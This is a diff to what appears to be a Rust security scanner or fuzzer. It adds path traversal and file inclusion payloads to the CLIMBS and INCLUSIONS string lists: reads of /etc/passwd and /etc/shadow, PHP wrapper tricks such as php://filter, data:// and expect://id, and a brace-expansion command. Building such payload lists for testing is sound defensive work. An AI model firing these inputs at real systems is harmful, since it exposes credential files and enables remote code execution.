@@ -22,6 +22,8 @@ pub(crate) const CLIMBS: &[&str] = &[
     "/etc/shadow%00.png",
     "/etc/nginx/nginx.conf",
     "/proc/self/environ",
+    "/var/log/apache2/access.log",
+    "{cat,/etc/passwd}",
     "/proc/self/../../etc/passwd",
     "file:///etc/passwd",
     "c:\\windows\\win.ini",
@@ -48,6 +50,7 @@ pub(crate) const CLIMBS: &[&str] = &[
 pub(crate) const INCLUSIONS: &[&str] = &[
     "php://filter/convert.base64-encode/resource=config.php",
     "php://input",
+    "data://text/plain;base64,PD9waHA=",
     "pHp://FiLTer/read=string.rot13/resource=index.php",
     "phar://uploads/a.jpg/x",
     "expect://id",
